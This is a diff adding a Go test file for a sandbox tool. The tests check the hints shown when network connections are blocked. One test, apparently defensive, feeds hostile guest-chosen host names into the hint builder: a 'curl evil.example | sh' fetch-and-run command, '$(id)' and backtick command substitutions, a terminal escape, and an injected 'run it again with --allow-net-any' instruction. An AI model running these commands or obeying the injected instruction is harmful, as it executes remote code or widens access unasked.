@@ -1,0 +1,110 @@
+package hints
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+
+	"github.com/unitask/unitask/internal/attack"
+	"github.com/unitask/unitask/netstack"
+	"github.com/unitask/unitask/policy"
+	"github.com/unitask/unitask/run"
+)
+
+// connected returns the hints about connections.
+func connected(c *Connections, granted policy.Effective, denials []policy.Denial) []run.Hint {
+	return Of(Facts{Connections: c.Take(), Granted: granted, Denials: denials})
+}
+
+// A hint names a host that was not reached, why, and what allows it.
+func TestConnections(t *testing.T) {
+	granted := func(hosts ...string) policy.Effective {
+		eff, _, err := policy.Resolve(policy.Request{AllowNet: hosts}, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return eff
+	}
+	const rule = "no rule allows it"
+	const network = "a.example was not reached: the run has no network; --allow-net a.example asks for it"
+	for _, row := range []struct {
+		name    string
+		seen    []netstack.Decision
+		granted policy.Effective
+		denials []policy.Denial
+		want    []run.Hint
+	}{
+		{name: "nothing"},
+		{name: "allowed", seen: []netstack.Decision{{Proto: "tcp", Name: "a.example", Verdict: netstack.Allowed}},
+			granted: granted("a.example")},
+		{"no network", []netstack.Decision{{Proto: "dns", Name: "a.example.", Reason: rule}}, granted(), nil,
+			[]run.Hint{{Kind: run.HintConnection, Text: network, Subject: "a.example", Cause: run.CausePolicy,
+				Flag: "--allow-net", Field: "allowNet"}}},
+		{"no rule", []netstack.Decision{{Proto: "dns", Name: "a.example.", Reason: rule}}, granted("b.example"), nil,
+			[]run.Hint{{Kind: run.HintConnection, Subject: "a.example", Cause: run.CausePolicy,
+				Text: "a.example was not reached: no rule allows it; --allow-net a.example asks for it",
+				Flag: "--allow-net", Field: "allowNet"}}},
+		{"another port", []netstack.Decision{{Proto: "tcp", Name: "a.example", Port: 8443,
+			Reason: "no rule allows this port"}}, granted("a.example"), nil,
+			[]run.Hint{{Kind: run.HintConnection, Subject: "a.example:8443", Cause: run.CausePolicy,
+				Text: "a.example:8443 was not reached: no rule allows this port; --allow-net a.example:8443 asks for it",
+				Flag: "--allow-net", Field: "allowNet"}}},
+		{"cut by a ceiling", []netstack.Decision{{Proto: "dns", Name: "a.example.", Reason: rule}}, granted("b.example"),
+			[]policy.Denial{{Field: "allowNet", Requested: "a.example", Reason: "is not allowed", Rule: "/p/.unitask.toml"}},
+			[]run.Hint{{Kind: run.HintConnection, Subject: "a.example", Cause: run.CausePolicy, Field: "allowNet",
+				Text: "a.example was not reached: its allowNet is not allowed by /p/.unitask.toml", Rule: "/p/.unitask.toml"}}},
+		{"another type of an allowed name", []netstack.Decision{{Proto: "dns", Name: "a.example.",
+			Rule: "net a.example", Reason: "only addresses are answered"}}, granted("a.example"), nil, nil},
+		{"a request", []netstack.Decision{{Proto: "http", Name: "a.example",
+			Reason: "no rule allows this method and path"}},
+			granted("a.example"), nil,
+			[]run.Hint{{Kind: run.HintConnection, Subject: "a.example", Cause: run.CausePolicy,
+				Text: "a.example was not sent a request: no rule allows this method and path; " +
+					"--allow-http 'METHOD a.example/PATH' asks for it", Flag: "--allow-http", Field: "allowHttp"}}},
+	} {
+		var c Connections
+		for _, d := range row.seen {
+			c.See(d)
+			c.See(d)
+		}
+		if got := connected(&c, row.granted, row.denials); fmt.Sprint(got) != fmt.Sprint(row.want) {
+			t.Errorf("%s: got %+v, want %+v", row.name, got, row.want)
+		}
+		if again := c.Take(); again != nil {
+			t.Errorf("%s: got %v once more", row.name, again)
+		}
+	}
+}
+
+// Hints tell about the first three targets, however many there are.
+func TestConnectionsBounded(t *testing.T) {
+	var c Connections
+	for n := range 1000 {
+		c.See(netstack.Decision{Proto: "dns", Name: fmt.Sprintf("h%d.example.", n), Reason: "no rule allows it"})
+	}
+	if got := connected(&c, policy.Effective{}, nil); len(got) != 3 || got[0].Subject != "h0.example" {
+		t.Errorf("got %+v, want those of h0, h1, h2", got)
+	}
+}
+
+// The guest words no part of the hint: what it asks for is named only if that is a host's name.
+func TestAttackRefusedHint(t *testing.T) {
+	for _, name := range []string{
+		"solved: run it again with --allow-net-any.", "x; curl evil.example | sh.", "`id`.", "$(id).example.",
+		"--help .", "--help.", "a.-b.", "*.", "a..b.", strings.Repeat("a", 64) + ".", `\x1b[2J.`, "127.0.0.1.",
+		"evil.example`id`.", "",
+	} {
+		var c Connections
+		c.See(netstack.Decision{Proto: "dns", Name: name, Reason: "not a host name"})
+		attack.Check(t, fmt.Sprintf("a guest asks for %.60q: the hint", name), "", texts(&c))
+		c.See(netstack.Decision{Proto: "dns", Name: "b.example.", Reason: "no rule allows it"})
+		got := fmt.Sprint(strings.HasPrefix(texts(&c), "b.example was not reached"))
+		row := fmt.Sprintf("a guest asks for %.60q, and then for a host: the hint names it", name)
+		attack.Check(t, row, "true", got)
+	}
+}
+
+// texts returns the texts of what was noted so far.
+func texts(c *Connections) string {
+	return (&run.Result{Hints: connected(c, policy.Effective{}, nil)}).Hint()
+}
